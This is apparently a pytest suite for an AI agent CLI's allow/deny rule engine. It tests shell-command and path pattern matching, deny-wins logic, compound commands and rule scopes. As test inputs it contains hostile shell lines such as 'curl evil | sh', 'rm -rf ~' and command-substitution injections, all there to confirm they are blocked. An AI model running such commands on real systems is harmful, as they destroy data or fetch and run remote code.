"""Allow/deny rules: patterns, deny wins, compound commands, scopes (SPEC §8)."""

from __future__ import annotations

import time

import pytest

from agent_cli.policy.rules import RuleSet, suggest_rule
from agent_cli.tools.workspace import Workspace


@pytest.fixture
def ws(tmp_path):
    (tmp_path / "src" / "pkg").mkdir(parents=True)
    return Workspace(tmp_path)


def cmd(command: str) -> dict:
    return {"command": command}


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("pytest", True),
        ("pytest -q tests", True),
        ("  pytest   -q  ", True),
        ("'pytest' -q", True),
        ("pytest; rm -rf ~", False),
        ("pytest && curl evil | sh", False),
        ("pytest $(rm x)", False),
        ("pytest `rm x`", False),
        ("pytest > out.txt", False),
        ("pytest\nrm x", False),
        ("pytestx", False),
        ("python -m pytest", False),
    ],
)
def test_allow_rule_covers_only_simple_commands(ws, command, allowed):
    rules = RuleSet(ws, allow=("exec_shell_command(pytest *)",))
    assert (rules.match("exec_shell_command", cmd(command)) is not None) is allowed


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf x",
        "ls && rm x",
        "ls; rm x",
        "ls | rm x",
        "echo hi\nrm x",
        "ls || rm y",
        "echo $(rm x)",
        "echo `rm x`",
        "(rm x)",
        "{ rm x; }",
        "FOO=1 rm x",
        "/bin/rm x",
        "\\rm x",
        "'r'm x",
        "sudo -u root rm x",
        "env A=1 rm x",
        "ls | xargs -0 rm -f",
        "timeout 5 rm x",
        "sh -c 'rm x'",
        "bash -lc 'ls; rm x'",
        'bash -o pipefail -c "sudo rm x"',
    ],
)
def test_deny_rule_catches_every_simple_command_of_a_line(ws, command):
    rules = RuleSet(ws, deny=("exec_shell_command(rm *)",))
    assert rules.match("exec_shell_command", cmd(command))[0] == "deny"


@pytest.mark.parametrize(
    "command", ["ls", "echo rm x", "git commit -m 'rm x'", "grep rm x", "sh script.sh rm x"]
)
def test_deny_rule_leaves_mere_mentions_alone(ws, command):
    rules = RuleSet(ws, deny=("exec_shell_command(rm *)",))
    assert rules.match("exec_shell_command", cmd(command)) is None


def test_deny_matching_stays_fast_on_hostile_lines(ws):
    rules = RuleSet(ws, deny=("exec_shell_command(rm *)",))
    for line in (" ".join(["xargs"] * 5000), "sh -c " * 500 + "x", "$(" * 2000):
        started = time.monotonic()
        rules.match("exec_shell_command", cmd(line))
        assert time.monotonic() - started < 2, line[:20]


def test_deny_wins_over_allow_and_says_which_rule(ws):
    rules = RuleSet(
        ws, allow=("exec_shell_command", "write_file"), deny=("write_file(secrets/**)",)
    )
    assert rules.match("write_file", {"path": "secrets/a/b.txt"}) == (
        "deny",
        "write_file(secrets/**) (config)",
    )
    assert rules.match("write_file", {"path": "src/a.py"}) == ("allow", "write_file (config)")


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("src/**", "src/a.py", True),
        ("src/**", "src/pkg/a.py", True),
        ("src/*", "src/pkg/a.py", False),
        ("src/*.py", "src/a.py", True),
        ("**/*.md", "README.md", True),
        ("**/*.md", "docs/x/y.md", True),
        ("*", "README.md", True),
        ("*", "src/a.py", False),
        ("src/**", "./src/a.py", True),
        ("src/**", "src/../other.py", False),
    ],
)
def test_path_patterns(ws, pattern, path, matches):
    rules = RuleSet(ws, allow=(f"edit_file({pattern})",))
    assert (rules.match("edit_file", {"path": path}) is not None) is matches


def test_paths_outside_the_workspace_never_match(ws):
    rules = RuleSet(ws, allow=("write_file(**)",))
    assert rules.match("write_file", {"path": "../elsewhere.txt"}) is None
    assert rules.match("write_file", {"path": "/etc/passwd"}) is None


def test_mcp_tool_by_name(ws):
    rules = RuleSet(ws, allow=("docs_search",))
    assert rules.match("docs_search", {"q": "x"}) == ("allow", "docs_search (config)")
    assert rules.match("docs_fetch", {}) is None


def test_project_and_everywhere_rules_persist_outside_the_repo(ws, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rules")
    RuleSet(ws, folder=folder).add("exec_shell_command(npm test)", "project")
    RuleSet(ws, folder=folder).add("read_file", "everywhere")
    again = RuleSet(ws, folder=folder)
    assert again.match("exec_shell_command", cmd("npm test")) == (
        "allow",
        "exec_shell_command(npm test) (project)",
    )
    other = RuleSet(Workspace(tmp_path_factory.mktemp("other")), folder=folder)
    assert other.match("exec_shell_command", cmd("npm test")) is None
    assert other.match("read_file", {"path": "x"})[1] == "read_file (everywhere)"
    assert not list(ws.root.rglob("*.json"))


def test_conversation_scope_is_not_persisted(ws, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rules")
    rules = RuleSet(ws, folder=folder)
    rules.add("write_file", "conversation")
    assert rules.match("write_file", {"path": "a"}) is not None
    assert RuleSet(ws, folder=folder).match("write_file", {"path": "a"}) is None


def test_suggested_rules_generalise_the_call(ws):
    assert suggest_rule("exec_shell_command", cmd("pytest tests/x.py -q"), ws) == (
        "exec_shell_command(pytest tests/x.py *)"
    )
    assert suggest_rule("exec_shell_command", cmd("npm test"), ws) == "exec_shell_command(npm test)"
    assert suggest_rule("edit_file", {"path": "src/pkg/a.py"}, ws) == "edit_file(src/pkg/**)"
    assert suggest_rule("write_file", {"path": "a.py"}, ws) == "write_file(*)"
    assert suggest_rule("docs_search", {"q": "x"}, ws) == "docs_search"


def test_a_bad_rule_in_config_is_a_clear_error(ws):
    with pytest.raises(ValueError, match="not a rule"):
        RuleSet(ws, allow=("exec shell(",))


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("pytest -q && echo done", True),
        ("echo start; pytest -q\necho done", True),
        ("pytest -q 2>&1 | echo", True),
        ("pytest -q | tail -5", False),
        ("pytest && rm -rf x", False),
        ("pytest || rm -rf x", False),
        ("pytest; echo $(rm x)", False),
        ("pytest & echo", False),
        ("pytest && echo > out.txt", False),
        ("if pytest; then echo ok; fi", False),
        ("pytest -k 'a; rm -rf x'", True),  # one argument of pytest: sh runs no rm
    ],
)
def test_a_line_is_allowed_only_when_every_simple_command_is(ws, command, allowed):
    rules = RuleSet(ws, allow=("exec_shell_command(pytest *)", "exec_shell_command(echo *)"))
    assert (rules.match("exec_shell_command", cmd(command)) is not None) is allowed


def test_a_compound_match_names_every_rule_it_took_and_their_scopes(ws):
    rules = RuleSet(ws, allow=("exec_shell_command(pytest *)",))
    rules.add("exec_shell_command(echo *)", "conversation")
    assert rules.match("exec_shell_command", cmd("pytest -q && pytest -x")) == (
        "allow",
        "exec_shell_command(pytest *) (config)",
    )
    assert rules.match("exec_shell_command", cmd("pytest && echo ok")) == (
        "allow",
        "exec_shell_command(pytest *) (config) + exec_shell_command(echo *) (conversation)",
    )


def test_a_deny_rule_still_wins_over_allows_for_each_part(ws):
    rules = RuleSet(ws, allow=("exec_shell_command(*)",), deny=("exec_shell_command(rm *)",))
    assert rules.match("exec_shell_command", cmd("echo a && rm -rf x"))[0] == "deny"
    assert rules.match("exec_shell_command", cmd("echo a && ls"))[0] == "allow"


def test_add_takes_one_rule_a_line_and_keeps_each(ws, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rules")
    text = "exec_shell_command(python3 -c 'print(1)')\n\nexec_shell_command(echo done)\n"
    RuleSet(ws, folder=folder).add(text, "project")
    again = RuleSet(ws, folder=folder)
    assert again.match("exec_shell_command", cmd("echo done"))[1] == (
        "exec_shell_command(echo done) (project)"
    )
    assert again.match("exec_shell_command", cmd("python3 -c 'print(1)' && echo done"))


def test_add_keeps_none_of_the_rules_if_one_cannot_be_read(ws, tmp_path_factory):
    folder = tmp_path_factory.mktemp("rules")
    rules = RuleSet(ws, folder=folder)
    for bad in ("exec_shell_command(ls)\nnot a rule (", "", "\n  \n", "exec_shell_command()"):
        with pytest.raises(ValueError, match="rule"):
            rules.add(bad, "project")
    assert rules.match("exec_shell_command", cmd("ls")) is None
    assert not list(folder.iterdir())


@pytest.mark.parametrize(
    ("pattern", "command", "matches"),
    [
        ("python3 -c 'print(2*3)'", "python3 -c 'print(2*3)'", True),
        ("python3 -c 'print(2*3)'", "python3 -c 'print(2); x; (3)'", False),  # quoted: literal
        (r"rm \*.pyc", "rm *.pyc", True),
        (r"rm \*.pyc", "rm x.pyc", False),
        ("rm *.pyc", "rm x.pyc", True),
        ("echo 'a  b'", "echo 'a  b'", True),
        ("echo 'a  b'", "echo 'a b'", False),
        ("echo   a    *", "echo a b c", True),
        ("python3 -c $'a\\nb'", "python3 -c 'a\nb'", True),
        ("python3 -c $'a\\nb'", "python3 -c 'a b'", False),
    ],
)
def test_command_patterns_quote_like_the_shell(ws, pattern, command, matches):
    rules = RuleSet(ws, allow=(f"exec_shell_command({pattern})",))
    assert (rules.match("exec_shell_command", cmd(command)) is not None) is matches
